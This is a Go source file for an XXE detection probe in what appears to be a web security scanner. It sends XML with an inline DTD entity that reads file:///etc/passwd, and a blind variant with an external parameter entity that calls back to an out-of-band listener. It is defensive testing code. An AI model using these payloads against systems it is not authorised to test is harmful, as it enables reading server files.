package probe

import (
	"context"
	"regexp"
	"strings"

	"github.com/secaudit/secaudit/internal/finding"
	"github.com/secaudit/secaudit/internal/httpx"
	"github.com/secaudit/secaudit/internal/webscan"
	"github.com/secaudit/secaudit/internal/webscan/oast"
)

// XXE finds XML external entity processing on endpoints that take a body
// (POST/PUT/PATCH): an inline DTD declares an entity for file:///etc/passwd
// used in every text node of the endpoint's sample XML body (or of a small
// generic document), and the response must then show root:x:0:0: (absent
// from the baseline, twice). Blind: a parameter entity pointing to the
// out-of-band listener; confirmed by the callback with its token.
// At most 2 + 2 + 1 requests per endpoint.
type XXE struct{}

func (*XXE) ID() string { return "WEB-XXE" }

var (
	xmlText    = regexp.MustCompile(`>([^<>]*)<`)
	xmlDecl    = regexp.MustCompile(`(?s)^\s*<\?xml[^>]*\?>\s*`)
	xmlDoctype = regexp.MustCompile(`(?s)^<!DOCTYPE[^>]*>\s*`)
	xmlRoot    = regexp.MustCompile(`^<([A-Za-z_][\w.:-]*)`)
	xmlishPath = regexp.MustCompile(`(?i)(xml|import|upload|soap|feed|rss|saml|svg)`)
)

// xmlSample is the endpoint's XML body, if discovery gave one.
func xmlSample(ep *webscan.Endpoint) string {
	for _, p := range ep.Params {
		if p.In == "body" && strings.HasPrefix(strings.TrimSpace(p.Value), "<") {
			return p.Value
		}
	}
	return ""
}

// withEntity puts the entity reference in every text node of the sample
// (after stripping any XML declaration and doctype), after a doctype.
func withEntity(sample, doctype, ref string) []byte {
	body := sample
	if body == "" {
		body = "<root><name>x</name><value>x</value><id>x</id></root>"
	}
	body = xmlDecl.ReplaceAllString(body, "")
	body = xmlDoctype.ReplaceAllString(body, "")
	body = xmlText.ReplaceAllStringFunc(body, func(s string) string {
		inner := s[1 : len(s)-1]
		if strings.TrimSpace(inner) == "" {
			return s
		}
		return ">" + ref + "<"
	})
	root := "root"
	if m := xmlRoot.FindStringSubmatch(body); m != nil {
		root = m[1]
	}
	return []byte(`<?xml version="1.0"?>` + "\n" + strings.ReplaceAll(doctype, "{ROOT}", root) + "\n" + body)
}

func (x *XXE) Run(ctx context.Context, ep *webscan.Endpoint, id *webscan.Identity, env *Env, emit webscan.Emit) {
	if ep == nil || !mayModify(ep) || (destructive(ep) && !env.Aggressive) {
		return
	}
	sample := xmlSample(ep)
	// Without a sample, only endpoints that look like they take XML.
	if sample == "" && ep.Encoding != "xml" && !xmlishPath.MatchString(ep.URL.Path) {
		return
	}
	t := newTarget(ctx, ep, id, env)
	if t == nil {
		return
	}
	send := func(b []byte) (*httpx.Response, error) {
		return t.send(mutation{body: b, contentType: "application/xml"})
	}
	plain := withEntity(sample, "<!DOCTYPE {ROOT} [<!ENTITY sq \"sqplain\">]>", "&sq;")
	base, err := send(plain)
	if err != nil {
		return
	}
	if !passwdSig.Match(base.Body) {
		payload := withEntity(sample, `<!DOCTYPE {ROOT} [<!ENTITY sq SYSTEM "file:///etc/passwd">]>`, "&sq;")
		r1, err := send(payload)
		if err == nil && passwdSig.Match(r1.Body) {
			if r2, err := send(payload); err == nil && passwdSig.Match(r2.Body) {
				res := t.result("WEB-XXE", "XML external entity (XXE) reads local files", nil, base, r1)
				res.Parameter = "body"
				res.Confidence = finding.ConfidenceHigh
				res.Facts = []string{"payload: an inline DTD with <!ENTITY sq SYSTEM \"file:///etc/passwd\"> referenced in the document",
					"the response holds /etc/passwd content (root:x:0:0:), absent with an internal entity; seen twice"}
				emit(res)
				return
			}
		}
	}
	if env.OAST == nil {
		return
	}
	tok := oast.NewToken()
	dtd := `<!DOCTYPE {ROOT} [<!ENTITY % sq SYSTEM "` + env.OAST.URL(tok) + `.dtd"> %sq;]>`
	payload := withEntity(sample, dtd, "x")
	r, err := send(payload)
	if err != nil {
		return
	}
	env.await(ctx, tok, func(hits []oast.Hit) {
		res := t.result("WEB-XXE", "XML external entity (XXE) processing (blind, out-of-band)", nil, r)
		res.Parameter = "body"
		res.Confidence = finding.ConfidenceHigh
		res.Facts = []string{"payload: an external parameter entity pointing to the out-of-band listener",
			"the XML parser fetched it: " + hits[0].String()}
		emit(res)
	})
}
